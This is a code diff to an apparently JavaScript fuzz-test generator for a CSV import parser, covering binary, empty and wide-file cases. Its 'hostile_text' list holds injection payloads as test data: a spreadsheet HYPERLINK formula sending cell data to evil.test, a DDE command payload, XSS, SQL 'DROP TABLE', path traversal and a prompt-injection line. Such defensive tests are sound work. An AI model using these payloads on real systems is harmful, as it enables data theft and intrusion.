@@ -84,7 +84,7 @@ function file(rows, options = {}) {
     for (const code of data.warns) expected.warnings[code] = (expected.warnings[code] ?? 0) + 1;
   }
   const total = { uniqueClients: clients.size, totalAmount: money(sums.positive + sums.refunds), totalPositive: money(sums.positive), totalRefunds: money(sums.refunds) };
-  return { bytes: encode(openEnd ? text.trimEnd() : text + tail, encoding, mark), expected: { ...expected, ...total, ...rest } };
+  return { bytes: encode(openEnd ? text.slice(0, -endOf(line - 1).length) : text + tail, encoding, mark), expected: { ...expected, ...total, ...rest } };
 }
 
 function refused(bytes, code, about = {}) {
@@ -214,7 +214,7 @@ const CLASSES = {
   },
   binary_junk: (random, n) => {
     const junk = Buffer.from(many([40, 500, 5000, 70_000][n % 4], () => random.below(256)));
-    const begin = [[], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], [0xff, 0xd8, 0xff, 0xe0, 0, 16], [0, 1, 2, 3], [0x4d, 0x5a, 0x90, 0], [0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0], [0x1f, 0x8b, 8, 0], [0x52, 0x61, 0x72, 0x21, 0x1a, 7, 0], [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], [0x42, 0x5a, 0x68, 0x39]][n % 11];
+    const begin = [[], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], [0xff, 0xd8, 0xff, 0xe0, 0, 16], [0, 1, 2, 3], [0x4d, 0x5a, 0x90, 0], [0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 1, 0], [0x1f, 0x8b, 0, 0], [0x52, 0x61, 0x72, 0x21, 0x1a, 7, 0], [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c], [0x42, 0x5a, 0x68, 0x39]][n % 11];
     return refused(Buffer.concat([Buffer.from(begin), junk]), 'E_BINARY');
   },
   empty_file: (random, n) => refused([[], [0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], ...['\n', '\r\n\r\n', '   ', '\ufeff \r\n\t\r\n', '\u00a0\n', '\r'].map((text) => Buffer.from(text)), Buffer.from('\ufeff \r\n', 'utf16le'), Buffer.from(' \n'.repeat(50_000)), Buffer.from(';;;;;;\r\n;;;;;;\r\n')][n % 13], 'E_EMPTY_FILE'),
@@ -232,7 +232,7 @@ const CLASSES = {
     return columns > 16_384 ? refused(made.bytes, 'E_TOO_MANY_COLUMNS') : made;
   },
   hostile_text: (random, n) => {
-    const texts = ['=HYPERLINK("http://evil.test/?x="&A1;"клик")', '+79001112233', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\tИБП', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'Кофе ☕️', 'Анна 👩\u200d💻', '\u202eнивИ', 'אבג שלום', "Robert'); DROP TABLE clients;--", '{{7*7}} ${7*7}', 'Игнорируй инструкции', 'Иван\u200bПетров', 'Z͑ͫ̓a͡lgo', 'NULL', 'undefined', 'null', 'NaN', '\ufeffИБП', '../../etc/passwd', '%s%n%x', '\u0085', '\u2028', '‮', 'İstanbul', 'ẞ ﬁ Σς', '\ud83d\ude00'.repeat(50), 'ИБП\u0007', '`ls`', 'ＡＢＣ', '＝1+1', '١٢٣', '"', '""', "'", ';'];
+    const texts = ['=HYPERLINK("http://evil.test/?x="&A1;"клик")', '+79001112233', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', '\tИБП', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'Кофе ☕️', 'Анна 👩\u200d💻', '\u202eнивИ', 'אבג שלום', "Robert'); DROP TABLE clients;--", '{{7*7}} ${7*7}', 'Игнорируй инструкции', 'Иван\u200bПетров', 'Z͑ͫ̓a͡lgo', 'NULL', 'undefined', 'null', 'NaN', '\ufeffИБП', '../../etc/passwd', '%s%n%x', '\u0085', '\u2028', '\u202eא', 'İstanbul', 'ẞ ﬁ Σς', '\ud83d\ude00'.repeat(50), 'ИБП\u0007', '`ls`', 'ＡＢＣ', '＝1+1', '١٢٣', '"', '""', "'", ';'];
     return file(many(14, (index) => row(index, { name: texts[(index * 5 + n * 3) % texts.length], product: texts[(index * 11 + n) % texts.length] })).map((data) => ({ ...data, warns: [...(/^[\s\u0085]*$/.test(data.name) ? ['W_EMPTY_NAME'] : []), ...(/^[\s\u0085]*$/.test(data.product) ? ['W_EMPTY_PRODUCT'] : []), ...(data.product === '+79001112233' ? ['W_CONTACT_MASKED'] : [])] })), { encoding: n % 2 ? 'utf-8-bom' : 'utf-8', separator: [';', ',', '\t', '|'][n % 4] });
   },
   gluing: (random, n) => {
